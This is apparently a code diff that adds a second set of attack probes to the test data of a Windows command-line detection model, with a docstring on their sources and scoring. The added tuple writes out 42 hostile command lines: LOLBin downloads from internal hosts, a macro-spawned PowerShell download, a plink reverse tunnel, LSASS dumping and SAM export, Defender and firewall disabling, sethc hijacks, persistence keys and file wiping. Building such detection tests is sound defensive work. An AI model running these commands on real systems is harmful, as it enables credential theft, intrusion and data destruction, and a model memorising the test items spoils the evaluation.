@@ -192,6 +192,73 @@ BENIGN_PROBES: tuple[Probe, ...] = (
        f"{_PS}|powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
        parent=_S32 + "svchost.exe"),
 )
+
+SECOND_PROBES: tuple[Probe, ...] = (
+    _p("certutil download", "CommandAndControl",
+       "certutil.exe|certutil -urlcache -split -f http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe"),
+    _p("certutil decode", "DefenseEvasion", "certutil.exe|certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.exe"),
+    _p("mshta url", "DefenseEvasion", "mshta.exe|mshta http://10.0.0.5/a.hta"),
+    _p("regsvr32 squiblydoo", "DefenseEvasion", "regsvr32.exe|regsvr32 /s /n /u /i:http://10.0.0.5/a.sct scrobj.dll"),
+    _p("rundll32 javascript", "DefenseEvasion",
+       "rundll32.exe|rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();"
+       "GetObject(\"script:http://10.0.0.5/a\")"),
+    _p("forfiles indirect", "DefenseEvasion", "forfiles.exe|forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe"),
+    _p("msiexec url", "DefenseEvasion", "msiexec.exe|msiexec /q /i http://10.0.0.5/a.msi"),
+    _p("wmic process create", "Execution", "wbem\\WMIC.exe|wmic process call create \"C:\\Users\\Public\\a.exe\""),
+    _p("wmic remote process", "LateralMovement",
+       "wbem\\WMIC.exe|wmic /node:10.0.0.8 /user:administrator /password:P@ss process call create \"cmd /c c:\\a.exe\""),
+    _p("schtasks remote", "LateralMovement",
+       "schtasks.exe|schtasks /create /s 10.0.0.8 /tn upd /tr c:\\a.exe /sc once /st 00:00 /ru system"),
+    _p("sc remote create", "LateralMovement", "sc.exe|sc \\\\10.0.0.8 create upd binpath= c:\\a.exe"),
+    _p("reg save sam", "CredentialAccess", "reg.exe|reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv"),
+    _p("procdump lsass", "CredentialAccess",
+       "C:\\Users\\Public\\procdump64.exe|procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp"),
+    _p("whoami privileges", "Discovery", "whoami.exe|whoami /priv"),
+    _p("nltest dclist", "Discovery", "nltest.exe|nltest /dclist:corp.local"),
+    _p("nltest trusts", "Discovery", "nltest.exe|nltest /domain_trusts"),
+    _p("logged-on users", "Discovery", "quser.exe|quser"),
+    _p("netstat", "Discovery", "NETSTAT.EXE|netstat -ano"),
+    _p("antivirus discovery", "Discovery",
+       "wbem\\WMIC.exe|wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName"),
+    _p("usn journal deleted", "DefenseEvasion", "fsutil.exe|fsutil.exe usn deleteJournal /D /N C:"),
+    _p("icacls everyone on sethc", "DefenseEvasion", "icacls.exe|icacls C:\\Windows\\System32\\sethc.exe /grant everyone:F"),
+    _p("attrib hide", "DefenseEvasion", "attrib.exe|attrib +h +s C:\\Users\\Public\\a.exe"),
+    _p("takeown sethc", "PrivilegeEscalation", "takeown.exe|takeown /f C:\\Windows\\System32\\sethc.exe"),
+    _p("copy cmd over sethc", "PrivilegeEscalation",
+       "cmd.exe|cmd.exe /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe"),
+    _p("defender exclusion", "DefenseEvasion", f"{_PS}|powershell -c Add-MpPreference -ExclusionPath C:\\Users\\Public"),
+    _p("defender realtime off", "DefenseEvasion", f"{_PS}|powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
+    _p("firewall off with netsh", "DefenseEvasion", "netsh.exe|netsh advfirewall set allprofiles state off"),
+    _p("defender service stopped", "DefenseEvasion", "net.exe|net stop WinDefend"),
+    _p("fodhelper UAC bypass", "PrivilegeEscalation",
+       "reg.exe|reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d C:\\Users\\Public\\a.exe /f"),
+    _p("run key", "Persistence",
+       "reg.exe|reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\a.exe /f"),
+    _p("logon task for the user", "Persistence", "schtasks.exe|schtasks /create /tn upd /tr C:\\Users\\Public\\a.exe /sc onlogon"),
+    _p("BITS notify command", "Persistence", "bitsadmin.exe|bitsadmin /SetNotifyCmdLine job1 C:\\Users\\Public\\a.exe NULL"),
+    _p("plink reverse tunnel", "CommandAndControl",
+       "C:\\Users\\Public\\plink.exe|plink.exe -ssh -R 3389:127.0.0.1:3389 -l user -pw pass 203.0.113.9"),
+    _p("7z archive with password", "Collection",
+       "C:\\Program Files\\7-Zip\\7z.exe|7z.exe a -pSecret C:\\Users\\Public\\d.7z C:\\Users\\bob\\Documents\\*"),
+    _p("database service stopped", "Impact", "net.exe|net stop MSSQLSERVER /y"),
+    _p("forced reboot", "Impact", "shutdown.exe|shutdown /r /t 0 /f"),
+    _p("sdelete", "Impact",
+       "C:\\Users\\Public\\sdelete64.exe|sdelete64.exe -accepteula -s -q C:\\Users\\bob\\Documents"),
+    _p("WinRM shell", "LateralMovement", "cmd.exe|cmd.exe /c whoami", parent=_S32 + "wsmprovhost.exe"),
+    _p("web shell", "Persistence", "cmd.exe|cmd.exe /c whoami", parent=_S32 + "inetsrv\\w3wp.exe"),
+    _p("Word macro shell", "Execution",
+       "cmd.exe|cmd.exe /c powershell -w hidden -c iwr http://10.0.0.5/a -o a.exe",
+       parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
+    _p("rundll32 of a user DLL", "DefenseEvasion", "rundll32.exe|rundll32.exe C:\\Users\\Public\\a.dll,Start"),
+    _p("utilman shell", "PrivilegeEscalation", "cmd.exe|cmd.exe", parent=_S32 + "utilman.exe"),
+)
+"""A second set of attack probes, written in session AC from the same public sources (ATT&CK, LOLBAS, the
+tactic/technique list of public per-technique EVTX collections) before that session's changes: 17 of these
+42 alerted with `ringfence-xgb-1.3-4cb2571784`. They were in view while that session chose its thresholds'
+rule and the lone booster's `generic` floor (17 to 22 alerted with the settings it compared), so they
+are no more a blind test than the first set; they widen it with LOLBin proxies and downloads, remote
+execution, discovery that administrators also run, and shells under processes that never start one.
+`ringfence train`/`evaluate` report them apart, so the first set's figures stay comparable."""
 # fmt: on
 
 
